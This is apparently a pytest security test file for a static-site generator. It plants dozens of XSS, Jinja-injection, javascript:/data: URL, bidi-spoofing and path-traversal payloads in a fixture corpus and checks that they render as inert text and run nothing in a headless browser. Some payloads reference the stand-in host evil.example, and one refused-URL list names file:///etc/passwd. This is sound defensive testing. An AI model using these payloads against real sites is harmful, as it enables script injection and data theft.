"""Text from editors is data, never code: hostile values render as text, ids cannot escape docs/.

One hostile site is built from the fixture corpus plus, for every payload below, one record of every kind with
the payload in every free-text field (source title, publisher, authors, published_note, license, notes and body
text; actor name, aliases and description; event title, place and summary; question, unit and description;
claim statement, answer, value unit, notes, evidence quote and translation). Then:

- the built HTML (and the search index, which Material renders as HTML) holds no payload as markup: no element,
  attribute, event handler, script, style or URL comes from a record, and every payload reads back as text;
- headless Chromium loads every page of that site (and searches it) with no dialog, no page error and no
  request to any host but the site.

Payloads that validation must refuse (javascript:/data:/vbscript: addresses in url and archived_url, bidi
controls in names, markup in tags) are checked for their exact message instead.
"""

from __future__ import annotations

import json
import re
import shutil
import time
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest
import yaml

import tally
from browsing import browse, page_paths
from conftest import FIXTURE_CORPUS, TODAY, problem_lines
from qantar.build import generate
from qantar.config import Settings
from qantar.problems import visible
from qantar.publish import UnsafePath, write_pages
from qantar.search_index import read_fragments
from qantar.site.markup import md_escape
from qantar.site.render import Page
from sitebuild import build_site, copy_project

# Every payload carries a canary, qxNN, so that wherever it lands in the HTML it can be found again.
PAYLOADS = [
    # HTML tags and event-handler attributes
    "<script>alert('qx01')</script>",
    "<img src=x onerror=alert('qx02')>",
    "<svg onload=alert('qx03')>",
    "<iframe src=javascript:alert('qx04')>",
    "<body onload=alert('qx05')>",
    "<details open ontoggle=alert('qx06')>",
    "<object data=javascript:alert('qx07')>",
    "<embed src=javascript:alert('qx08')>",
    "<style>@import'//evil.example/qx09'</style>",
    "<link rel=stylesheet href=//evil.example/qx10>",
    "<meta http-equiv=refresh content=0;url=//qx11>",
    "<base href=//evil.example/qx12/>",
    "<form action=//evil.example><button>qx13",
    "<input autofocus onfocus=alert('qx14')>",
    "<video><source onerror=alert('qx15')>",
    "<math><mtext><script>alert('qx16')",
    "<!--<img src=x onerror=alert('qx17')>-->",
    "<![CDATA[<script>alert('qx18')</script>]]>",
    # javascript:, data:, vbscript: and foreign hosts in Markdown links, images and autolinks
    "[qx19](javascript:alert('qx19'))",
    "![qx20](javascript:alert('qx20'))",
    "[qx21](data:text/html,<script>alert(21)</script>)",
    "![qx22](data:image/svg+xml,<svg onload=alert(1)>)",
    "[qx23](vbscript:msgbox('qx23'))",
    "![qx24](https://evil.example/qx24.png)",
    "<javascript:alert('qx25')>",
    "<https://evil.example/qx26>",
    "[qx27][r]\n\n[r]: javascript:alert('qx27')",
    "[qx28](<javascript:alert('qx28')> \"t\")",
    # Jinja2 template syntax
    "{{ 7*7 }}qx29",
    "{% if true %}qx30{% endif %}",
    "{{ config.__class__ }}qx31",
    "{# hidden #}qx32{{ self }}",
    # Markdown raw-HTML blocks, md_in_html, attr_list, admonitions, block structure
    "<div>\n\n<script>alert('qx33')</script>\n\n</div>",
    '<div markdown="1">**qx34**</div>',
    "qx35 {: onclick=\"alert('qx35')\" }",
    '!!! danger "qx36"\n    <b onclick=alert(36)>x</b>',
    "# qx37\n\n| a | b |\n|---|---|\n| <i>x</i> | y |",
    "1. qx38\n- *em* `code` ~~del~~ ^sup^",
    # attribute-breaking quotes
    '" onmouseover="alert(\'qx39\')" x="',
    "' onmouseover='alert(`qx40`)' x='",
    "\"><svg onload=alert('qx41')>",
    "'><img src=x onerror=alert('qx42')>",
    "</title><script>alert('qx43')</script>",
    "</textarea><script>alert('qx44')</script>",
    # character references that must stay text, never become markup once decoded
    "&lt;script&gt;alert('qx45')&lt;/script&gt;",
    "&#60;img src=x onerror=alert('qx46')&#62;",
    "qx47 ${alert(47)} `${x}` \\<b\\>",
]
CANARY = re.compile(r"qx\d\d")

# (kind, field) pairs that receive every payload; the field names as editors write them
FIELDS = (
    ("source", "title"),
    ("source", "publisher"),
    ("source", "authors"),
    ("source", "published_note"),
    ("source", "license"),
    ("source", "notes"),
    ("source", "body text"),
    ("actor", "name"),
    ("actor", "aliases"),
    ("actor", "description"),
    ("event", "title"),
    ("event", "place"),
    ("event", "summary"),
    ("question", "question"),
    ("question", "unit"),
    ("question", "description"),
    ("claim", "statement"),
    ("claim", "answer"),
    ("claim", "value.unit"),
    ("claim", "notes"),
    ("claim", "evidence quote"),
    ("claim", "evidence translation"),
)


def canary(payload: str) -> str:
    found = CANARY.search(payload)
    assert found, payload
    return found.group(0)


def test_the_payload_list_is_long_and_every_payload_fits_every_field() -> None:
    assert len(PAYLOADS) >= 40
    assert len({canary(p) for p in PAYLOADS}) == len(PAYLOADS)  # one canary per payload
    assert all(len(p) <= 50 for p in PAYLOADS)  # the shortest limit: a question's unit
    tally.record("hostile payloads rendered as text", len(PAYLOADS))
    tally.record("hostile placements (payloads x text fields)", len(PAYLOADS) * len(FIELDS))


# ---------------------------------------------------------------------------------------------
# The hostile corpus and its site
# ---------------------------------------------------------------------------------------------


def _dump(path: Path, data: dict[str, object]) -> None:
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10_000), encoding="utf-8")


def hostile_corpus(root: Path, payloads: list[str] = PAYLOADS) -> Path:
    """The fixture corpus, plus one source, actor, event, question and two claims per payload."""
    shutil.copytree(FIXTURE_CORPUS / "claims", root / "claims")
    shutil.copytree(FIXTURE_CORPUS / "sources", root / "sources")
    for number, payload in enumerate(payloads, 1):
        n = f"{number:02d}"
        source, actor, event, question = (f"hostile-{kind}-{n}" for kind in ("source", "actor", "event", "question"))
        front = {
            "id": source,
            "title": payload,
            "publisher": payload,
            "authors": [payload],
            "published": "2021-03-05",
            "published_note": payload,
            "url": f"https://example.org/hostile/{n}",
            "archived_url": f"https://web.archive.org/web/2021/https://example.org/hostile/{n}",
            "languages": ["en", "ru"],
            "kind": "report",
            "rights": "full-text" if number % 2 else "excerpts",
            "license": payload,
            "notes": payload,
        }
        body = f"Hostile source {n} begins here.\n\n{payload}\n\nHostile source {n} ends here.\n"
        (root / "sources" / f"{source}.md").write_text(
            "---\n" + yaml.safe_dump(front, allow_unicode=True, sort_keys=False, width=10_000) + "---\n" + body,
            encoding="utf-8",
        )
        _dump(
            root / "claims" / "actors" / f"{actor}.yaml",
            {"id": actor, "name": payload, "kind": "person", "aliases": [payload], "description": payload},
        )
        _dump(
            root / "claims" / "events" / f"{event}.yaml",
            {
                "id": event,
                "title": payload,
                "date": "2021-03-02",
                "place": "unknown",
                "place_note": payload,
                "summary": payload,
                "parent": "riverton-flood",
                "actors": [actor],
            },
        )
        _dump(
            root / "claims" / "questions" / f"{question}.yaml",
            {"id": question, "question": payload, "unit": payload, "description": payload},
        )
        _dump(
            root / "claims" / f"hostile-claim-{n}.yaml",
            {
                "id": f"hostile-claim-{n}",
                "statement": payload,
                "claimant": actor,
                "claimed": "2021-03",
                "events": [event],
                "actors": [actor],
                "question": question,
                "value": {"number": number, "unit": payload, "qualifier": "about"},
                "tags": ["casualties"],
                "evidence": [
                    {"source": source, "quote": payload, "stance": "reports", "attribution": "paraphrase"},
                    {
                        "source": source,
                        "quote": payload,
                        "stance": "disputes",
                        "attribution": "none",
                        "language": "ru",
                        "translation": payload,
                        "translated_by": "source" if number % 2 else "editors",
                    },
                ],
                "notes": payload,
            },
        )
        _dump(
            root / "claims" / f"hostile-answer-{n}.yaml",
            {
                "id": f"hostile-answer-{n}",
                "statement": payload,
                "claimant": actor,
                "question": question,
                "answer": payload,
                "tags": ["casualties"],
                "evidence": [{"source": source, "quote": payload, "stance": "supports", "attribution": "own-text"}],
                "notes": payload,
            },
        )
    return root


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    corpus = hostile_corpus(tmp_path_factory.mktemp("hostile-corpus"))
    project = copy_project(tmp_path_factory.mktemp("hostile-project"), corpus=corpus)
    site = tmp_path_factory.mktemp("hostile-site")
    result = build_site(project, site)
    assert result.returncode == 0, result.stdout + result.stderr
    return site


def test_the_hostile_corpus_is_valid_so_every_payload_is_published(tmp_path: Path) -> None:
    corpus = hostile_corpus(tmp_path)
    assert [line for line in problem_lines(corpus) if "warning:" not in line] == []


def test_every_hostile_record_has_its_page(hostile_site: Path) -> None:
    for number in range(1, len(PAYLOADS) + 1):
        n = f"{number:02d}"
        for folder, name in (
            ("sources", "source"),
            ("actors", "actor"),
            ("events", "event"),
            ("questions", "question"),
            ("claims", "claim"),
            ("claims", "answer"),
        ):
            assert (hostile_site / folder / f"hostile-{name}-{n}" / "index.html").is_file(), (folder, n)


# ---------------------------------------------------------------------------------------------
# The HTML: no payload as markup, every payload as text
# ---------------------------------------------------------------------------------------------

URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "poster",
    "srcset",
    "xlink:href",
    "background",
    "cite",
    "longdesc",
    "ping",
    "manifest",
    "codebase",
    "archive",
    "icon",
    "lowsrc",
    "dynsrc",
}
# Where record text may stand, as an attribute value: data-label names a table column on a phone's card, shown only
# as CSS generated content (attr()), which is never read as markup.
TEXT_ATTRIBUTES = {"title", "alt", "aria-label", "id", "data-label"}
# A publisher's key in the explorer (?publisher=novaya-gazeta-europe) is its name folded into words and hyphens,
# by design readable: as an explorer menu's value, such a slug is record text, but inert.
SLUG = re.compile(r"[^\W_]+(-[^\W_]+)*")
# the records' own links, and the data licence the data page names
SITE_HOSTS = {"", "example.org", "example.net", "web.archive.org", "github.com", "creativecommons.org"}


def normalise_text(text: str) -> str:
    """White space folded; page titles (header, h1) write < > as ‹ › by design (markup.plain_title); and prose shows a
    term set in backticks in quotation marks (markup.paragraphs): both read back as the editor wrote them."""
    return " ".join(text.replace("‹", "<").replace("›", ">").replace("“", "`").replace("”", "`").split())


class MarkupScan(HTMLParser):
    """Collect the text a reader sees, and every place where a canary became markup."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.text: list[str] = []
        self.problems: list[str] = []
        self.raw: str | None = None  # inside <script> or <style>
        self.json_ld = False  # inside <script type="application/ld+json">
        self.in_title = False

    def bad(self, what: str) -> None:
        self.problems.append(what)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.text.append(" ")
        if CANARY.search(tag):
            self.bad(f"element <{tag}>")
        if tag in ("script", "style"):
            self.raw = tag
            self.json_ld = tag == "script" and (dict(attrs).get("type") or "") == "application/ld+json"
        if tag == "title":
            self.in_title = True
        for name, value in attrs:
            value = value or ""
            if CANARY.search(name) or name.startswith("on"):
                self.bad(f"attribute {name}={value!r} on <{tag}>")
            if name == "http-equiv" and value.lower() == "refresh":
                self.bad(f"<{tag} http-equiv=refresh content={dict(attrs).get('content')!r}>")
            if name == "style" and CANARY.search(value):
                self.bad(f"style {value!r} on <{tag}>")
            if name in URL_ATTRIBUTES:
                self.check_url(tag, name, value)
            elif (
                CANARY.search(value)
                and name not in TEXT_ATTRIBUTES
                and not (tag == "option" and name == "value" and SLUG.fullmatch(value))
            ):
                self.bad(f"record text in {name}={value!r} on <{tag}>")

    def check_url(self, tag: str, name: str, value: str) -> None:
        squeezed = re.sub(r"[\x00-\x20]", "", value).lower()
        if squeezed.startswith(("javascript:", "vbscript:", "data:")):
            self.bad(f"{name}={value!r} on <{tag}>")
            return
        parts = urlsplit(value)
        if (parts.hostname or "") not in SITE_HOSTS or "evil.example" in value.split("#", 1)[0]:
            self.bad(f"{name}={value!r} on <{tag}> points at another host")
        if CANARY.search(value.split("#", 1)[0]):
            self.bad(f"record text in the address {name}={value!r} on <{tag}>")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        self.handle_endtag(tag)

    def handle_endtag(self, tag: str) -> None:
        self.text.append(" ")
        if tag == self.raw:
            self.raw = None
        if tag == "title":
            self.in_title = False

    def handle_data(self, data: str) -> None:
        if self.raw:
            if self.raw == "script" and self.json_ld:  # JSON-LD carries record text by design: it must stay JSON
                if "<" in data or ">" in data or "&" in data or not _is_json_object(data):
                    self.bad(f"JSON-LD that is not inert JSON: {data.strip()[:80]!r}")
                return
            if CANARY.search(data):
                self.bad(f"record text inside <{self.raw}>: {data.strip()[:80]!r}")
            return
        if not self.in_title:  # MkDocs' <title> shows the page title un-escaped once: compared apart
            self.text.append(data)

    def handle_comment(self, data: str) -> None:
        if CANARY.search(data):
            self.bad(f"record text became an HTML comment: {data[:80]!r}")

    def unknown_decl(self, data: str) -> None:
        if CANARY.search(data):
            self.bad(f"record text became a declaration: {data[:80]!r}")

    def handle_pi(self, data: str) -> None:
        if CANARY.search(data):
            self.bad(f"record text became a processing instruction: {data[:80]!r}")


def _is_json_object(text: str) -> bool:
    try:
        return isinstance(json.loads(text), dict)
    except ValueError:
        return False


def scan_html(html: str) -> tuple[list[str], str]:
    """Problems found, and the page's visible text with white space folded."""
    scan = MarkupScan()
    scan.feed(html)
    scan.close()
    return scan.problems, normalise_text("".join(scan.text))


def text_problems(text: str) -> list[str]:
    """Every canary in the visible text must stand inside its whole payload, character for character."""
    problems = []
    for payload in PAYLOADS:
        mark = canary(payload)
        whole = normalise_text(payload)
        text = normalise_text(text)
        seen, expected = text.count(mark), text.count(whole) * whole.count(mark)
        if seen != expected:
            problems.append(
                f"{mark} appears {seen} times but its payload {payload!r} reads back whole only "
                f"{text.count(whole)} times (the rest was interpreted, not shown)"
            )
    return problems


def test_markup_scan_catches_what_it_must() -> None:
    # the checker itself: each of these is what an escaping bug would produce
    for html in (
        "<p><img src=x onerror=alert('qx02')></p>",
        "<p><a href=\"javascript:alert('qx19')\">x</a></p>",
        "<p><script>alert('qx01')</script></p>",
        '<p title="" onmouseover="alert(\'qx39\')">',
        '<p><img src="https://evil.example/qx24.png"></p>',
        "<p><b>qx13</b></p>",
        "<p>49qx29</p>",
        '<meta http-equiv=refresh content="0;url=//qx11">',
    ):
        problems, text = scan_html(html)
        assert problems or text_problems(text), html
    problems, text = scan_html("<p>&lt;script&gt;alert('qx01')&lt;/script&gt;</p>")
    assert problems == [] and text_problems(text) == [], text
    safe = '<script type="application/ld+json">{"name":"\\u003cscript\\u003ealert(\'qx01\')"}</script>'
    assert scan_html(safe)[0] == []
    for unsafe in (
        '<script type="application/ld+json">{"name":"</script><script>alert(\'qx01\')</script>',
        "<script type=\"application/ld+json\">alert('qx01')</script>",
        "<script>var x = 'qx01';</script>",
    ):
        assert scan_html(unsafe)[0], unsafe


def site_pages(site: Path) -> list[Path]:
    return sorted(site.rglob("*.html"))


def test_no_payload_survives_as_markup_in_any_page(hostile_site: Path) -> None:
    failures: list[str] = []
    pages = site_pages(hostile_site)
    for page in pages:
        problems, text = scan_html(page.read_text(encoding="utf-8"))
        problems += text_problems(text)
        failures += [f"{page.relative_to(hostile_site)}: {problem}" for problem in problems]
    tally.record("hostile site: HTML pages scanned for markup", len(pages))
    assert failures == [], "\n".join(failures[:40]) + f"\n… {len(failures)} in all"


def test_every_payload_reads_back_as_text_on_its_pages(hostile_site: Path) -> None:
    for number, payload in enumerate(PAYLOADS, 1):
        n, whole = f"{number:02d}", normalise_text(payload)
        for folder, name, least in (
            ("sources", "source", 7),
            ("actors", "actor", 3),
            ("events", "event", 3),
            ("questions", "question", 3),
            ("claims", "claim", 5),
            ("claims", "answer", 4),
        ):
            page = hostile_site / folder / f"hostile-{name}-{n}" / "index.html"
            _problems, text = scan_html(page.read_text(encoding="utf-8"))
            assert text.count(whole) >= least, (page.relative_to(hostile_site), payload, text.count(whole))


def test_template_syntax_in_a_record_shows_up_literally(hostile_site: Path) -> None:
    page = (hostile_site / "claims" / "hostile-claim-29" / "index.html").read_text(encoding="utf-8")
    _problems, text = scan_html(page)
    assert "{{ 7*7 }}qx29" in text and "49qx29" not in text


def test_the_search_index_holds_no_payload_as_markup(hostile_site: Path) -> None:
    # Pagefind keeps each page's text and metadata as plain text (search.js escapes it before showing it) and its
    # excerpts escaped; the hidden metadata that the build writes into every page must hold no markup either
    failures, scanned = [], 0
    for fragment in read_fragments(hostile_site / "pagefind"):
        scanned += 1
        problems, _text = scan_html(fragment.get("excerpt", ""))
        failures += [f"{fragment['url']} excerpt: {problem}" for problem in problems]
        page = hostile_site / fragment["url"].strip("/") / "index.html"
        html = page.read_text(encoding="utf-8")
        hidden = html[html.index("<div hidden data-pagefind-ignore>") :]
        problems, _text = scan_html(hidden[: hidden.index("</div>") + 6])
        failures += [f"{fragment['url']} search metadata: {problem}" for problem in problems]
    tally.record("hostile site: search-index entries scanned", scanned)
    assert scanned > 0 and failures == [], "\n".join(failures[:40])


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markdown_escaping_leaves_no_markup(payload: str) -> None:
    escaped = md_escape(payload)
    for char in "<>[]{}`*_|\\":
        assert char not in escaped, (payload, escaped)
    assert "\n" not in escaped


# ---------------------------------------------------------------------------------------------
# In the browser: every page of the hostile site
# ---------------------------------------------------------------------------------------------


def test_the_browser_harness_sees_a_dialog_an_error_and_a_foreign_request(tmp_path: Path, chromium: object) -> None:
    # what an escaping bug would do in a reader's browser, so that the test below can fail
    (tmp_path / "index.html").write_text(
        "<!doctype html><title>t</title><img src=x onerror=alert('qx02')>"
        "<script>throw new Error('qx99')</script><img src='http://evil.example/qx24.png'>",
        encoding="utf-8",
    )
    visit = browse(chromium, tmp_path, [""])
    assert [d.split(": ", 1)[1] for d in visit.dialogs] == ["alert: qx02"]
    assert len(visit.errors) == 1 and "qx99" in visit.errors[0]
    assert visit.foreign == ["http://evil.example/qx24.png"]


def test_every_hostile_page_runs_nothing_in_the_browser(hostile_site: Path, chromium: object) -> None:
    started = time.monotonic()
    # Material shows search results by inserting titles and text as HTML: search words the payload pages carry
    visit = browse(chromium, hostile_site, page_paths(hostile_site), search_for=("alert", "onerror", "script"))
    tally.record("hostile site: pages loaded in Chromium", visit.pages)
    tally.record("hostile site: requests seen, all to the site", len(visit.requests))
    tally.record("hostile site: search results shown", sum(visit.searches.values()))
    tally.record("hostile site: browser pass (s)", f"{time.monotonic() - started:.1f}")
    assert visit.pages == len(site_pages(hostile_site))
    assert visit.dialogs == []
    assert visit.errors == []
    assert visit.foreign == []
    assert all(count >= 5 for count in visit.searches.values()), visit.searches


# ---------------------------------------------------------------------------------------------
# Payloads that validation refuses, with their exact messages
# ---------------------------------------------------------------------------------------------

DAILY = "sources/daily-river-2021.md"
OPEN_WIRE = "sources/open-wire-2021.md"
CLAIM = "claims/official-toll-12.yaml"
URL_HINT = "give the full address, starting with https://, without spaces or quotes"
INVISIBLE_HINT = "delete it: it can make text display in a misleading order or break pages"

REFUSED_URLS = [
    "javascript:alert('qx')",
    "JavaScript:alert(document.domain)",
    "javascript://example.org/%0Aalert(1)",
    "jav\tascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "VBScript:MsgBox(1)",
    "//evil.example/x",
    "https:javascript:alert(1)",
    'https://example.org/"><script>alert(1)</script>',
    "https://example.org/' onmouseover='alert(1)",
    "https://example.org/`alert(1)`",
    "https://example.org/\\..\\evil",
    "file:///etc/passwd",
    "mailto:x@example.org",
]


def _quoted(value: str) -> str:
    return json.dumps(value)  # a JSON string is a YAML double-quoted scalar


def _replace(root: Path, rel: str, old: str, new: str) -> None:
    path = root / rel
    text = path.read_text(encoding="utf-8")
    assert old in text, (rel, old)
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


@pytest.mark.parametrize("url", REFUSED_URLS)
def test_hostile_address_in_url_is_refused(corpus_dir: Path, url: str) -> None:
    _replace(corpus_dir, DAILY, "url: https://example.org/daily-river/flood", f"url: {_quoted(url)}")
    # a control character in the address is shown escaped (a tab as \t): messages never carry one raw
    assert problem_lines(corpus_dir) == [f"{DAILY}:7:6: url: '{visible(url)}' is not an http(s) address; {URL_HINT}"]


@pytest.mark.parametrize("url", REFUSED_URLS)
def test_hostile_address_in_archived_url_is_refused(corpus_dir: Path, url: str) -> None:
    _replace(
        corpus_dir,
        OPEN_WIRE,
        "archived_url: https://web.archive.org/web/2021/https://example.net/open-wire/riverton",
        f"archived_url: {_quoted(url)}",
    )
    assert problem_lines(corpus_dir) == [
        f"{OPEN_WIRE}:9:15: archived_url: '{visible(url)}' is not an http(s) address; {URL_HINT}"
    ]


def test_an_address_padded_with_spaces_is_refused_as_trimmed(corpus_dir: Path) -> None:
    _replace(corpus_dir, DAILY, "url: https://example.org/daily-river/flood", 'url: "  javascript:alert(1)  "')
    assert problem_lines(corpus_dir) == [
        f"{DAILY}:7:6: url: 'javascript:alert(1)' is not an http(s) address; {URL_HINT}"
    ]


def test_bidi_control_in_an_address_is_refused(corpus_dir: Path) -> None:
    # an address whose shown form differs from where it goes: refused like a bidi control in any other field
    _replace(
        corpus_dir, DAILY, "url: https://example.org/daily-river/flood", 'url: "https://example.org/\\u202Egnp.exe"'
    )
    assert problem_lines(corpus_dir) == [
        f"{DAILY}:7:6: url: contains the invisible character U+202E (RIGHT-TO-LEFT OVERRIDE) at position 21; "
        f"{INVISIBLE_HINT}"
    ]


BIDI = {
    "\u202a": "LEFT-TO-RIGHT EMBEDDING",
    "\u202b": "RIGHT-TO-LEFT EMBEDDING",
    "\u202c": "POP DIRECTIONAL FORMATTING",
    "\u202d": "LEFT-TO-RIGHT OVERRIDE",
    "\u202e": "RIGHT-TO-LEFT OVERRIDE",
    "\u2066": "LEFT-TO-RIGHT ISOLATE",
    "\u2067": "RIGHT-TO-LEFT ISOLATE",
    "\u2068": "FIRST STRONG ISOLATE",
    "\u2069": "POP DIRECTIONAL ISOLATE",
    "\u200e": "LEFT-TO-RIGHT MARK",
    "\u200f": "RIGHT-TO-LEFT MARK",
    "\u061c": "ARABIC LETTER MARK",
}

# (file, the line as it stands, field as reported, the value's line and column, the value)
NAME_FIELDS = [
    ("claims/actors/riverton-officials.yaml", "name: Riverton officials", "name", 2, 7, "Riverton officials"),
    (
        "claims/actors/riverton-officials.yaml",
        "aliases: [the authorities, officials]",
        "aliases[0]",
        4,
        11,
        "the authorities",
    ),
    ("claims/events/riverton-flood.yaml", "title: The Riverton flood", "title", 2, 8, "The Riverton flood"),
    ("claims/places/riverton.yaml", "name: Riverton", "name", 2, 7, "Riverton"),
    (
        "claims/questions/flood-death-toll.yaml",
        "question: How many people died in the Riverton flood?",
        "question",
        2,
        11,
        "How many people died in the Riverton flood?",
    ),
    (DAILY, 'title: "Flood in Riverton: what we know"', "title", 3, 8, "Flood in Riverton: what we know"),
    (DAILY, "publisher: The Daily River", "publisher", 4, 12, "The Daily River"),
    (DAILY, "authors: [Ann Writer]", "authors[0]", 5, 11, "Ann Writer"),
    (
        CLAIM,
        "statement: Riverton officials said 12 people died in the flood.",
        "statement",
        2,
        12,
        "Riverton officials said 12 people died in the flood.",
    ),
]


@pytest.mark.parametrize(
    ("char", "where"),
    [
        pytest.param(char, where, id=f"U+{ord(char):04X}-{where[0].rsplit('/', 1)[1]}-{where[2]}")
        for index, char in enumerate(BIDI)
        for where in NAME_FIELDS[index % 3 :: 3]
    ],
)
def test_bidi_control_in_a_name_is_refused(corpus_dir: Path, char: str, where: tuple) -> None:
    rel, line_text, field, line, column, value = where
    spoofed = value[:3] + char + value[3:]  # 'Riv\u202eerton …'
    key = line_text.split(":", 1)[0]
    if field.endswith("[0]"):
        rest = line_text[line_text.index(value) + len(value) :]
        new_line = f"{key}: [{_quoted(spoofed)}{rest}"
    else:
        new_line = f"{key}: {_quoted(spoofed)}"
    _replace(corpus_dir, rel, line_text, new_line)
    assert problem_lines(corpus_dir) == [
        f"{rel}:{line}:{column}: {field}: contains the invisible character U+{ord(char):04X} ({BIDI[char]}) at "
        f"position 4; {INVISIBLE_HINT}"
    ]


def test_refused_payload_counts(request: pytest.FixtureRequest) -> None:
    ran: dict[str, int] = {}
    for item in request.session.items:
        if item.module is request.module:
            name = getattr(item, "originalname", item.name)
            ran[name] = ran.get(name, 0) + 1
    addresses = ran.get("test_hostile_address_in_url_is_refused", 0) + ran.get(
        "test_hostile_address_in_archived_url_is_refused", 0
    )
    assert addresses == len(REFUSED_URLS) * 2
    assert ran.get("test_bidi_control_in_a_name_is_refused", 0) == len(BIDI) * 3
    assert ran.get("test_markup_in_a_tag_is_refused", 0) >= 6
    tally.record("refused payloads: addresses (url and archived_url)", addresses)
    tally.record("refused payloads: bidi controls in names", ran["test_bidi_control_in_a_name_is_refused"])
    tally.record("refused payloads: markup in tags", ran["test_markup_in_a_tag_is_refused"])


@pytest.mark.parametrize(
    ("tag", "suggestion"),
    [
        ("<script>alert(1)</script>", "script-alert-1-script"),
        ("<img src=x onerror=alert(1)>", "img-src-x-onerror-alert-1"),
        ("[x](javascript:alert(1))", "x-javascript-alert-1"),
        ("{{ 7*7 }}", "7-7"),
        ('" onmouseover="alert(1)', "onmouseover-alert-1"),
        ("evil\u202eexe", "evil-exe"),
    ],
)
def test_markup_in_a_tag_is_refused(corpus_dir: Path, tag: str, suggestion: str) -> None:
    _replace(corpus_dir, CLAIM, "tags: [casualties]", f"tags: [{_quoted(tag)}]")
    if "\u202e" in tag:
        expected = (
            f"{CLAIM}:12:8: tags[0]: contains the invisible character U+202E (RIGHT-TO-LEFT OVERRIDE) at "
            f"position 5; {INVISIBLE_HINT}"
        )
    else:
        expected = (
            f"{CLAIM}:12:8: tags[0]: the tag '{tag}' is not lower-case words joined by hyphens; write it as "
            f"'{suggestion}'"
        )
    assert problem_lines(corpus_dir) == [expected]


# ---------------------------------------------------------------------------------------------
# Paths
# ---------------------------------------------------------------------------------------------


def test_pages_cannot_be_written_outside_the_generated_folders(tmp_path: Path) -> None:
    for path in (
        "../escape.md",
        "/etc/passwd",
        "claims/../../x.md",
        "mkdocs.yml",
        "assets/x.md",
        "claims/a/b.md",
        "claims/page/x.md",
        "claims/page/0.md",
        "tags/a/b/page/2.md",
        "data/a/b.json",
        "data/explorer/a/b/c.json",
        "assets/page/2.md",
    ):
        with pytest.raises(UnsafePath):
            write_pages([Page(path, "x")], tmp_path / "docs")
    assert not (tmp_path / "escape.md").exists()
    further = ["claims/page/2.md", "tags/x/page/3.md", "figures/page/2.md", "data/explorer/rows/0.json"]
    write_pages([Page(path, "x") for path in further], tmp_path / "docs")  # a list's further pages, the data
    assert all((tmp_path / "docs" / path).is_file() for path in further)


def test_ids_that_could_escape_are_rejected_before_rendering(corpus_dir: Path) -> None:
    for bad in ("../x", "/etc", "a/b"):
        claim = corpus_dir / "claims" / "official-toll-12.yaml"
        claim.write_text(
            claim.read_text(encoding="utf-8").replace("claimant: riverton-officials", f"claimant: '{bad}'"),
            encoding="utf-8",
        )
        result = generate(Settings(root=corpus_dir, docs=str(corpus_dir / "docs")), today=TODAY)
        assert not result.ok
        assert not (corpus_dir / "docs").exists()
        claim.write_text(
            (FIXTURE_CORPUS / "claims" / "official-toll-12.yaml").read_text(encoding="utf-8"), encoding="utf-8"
        )
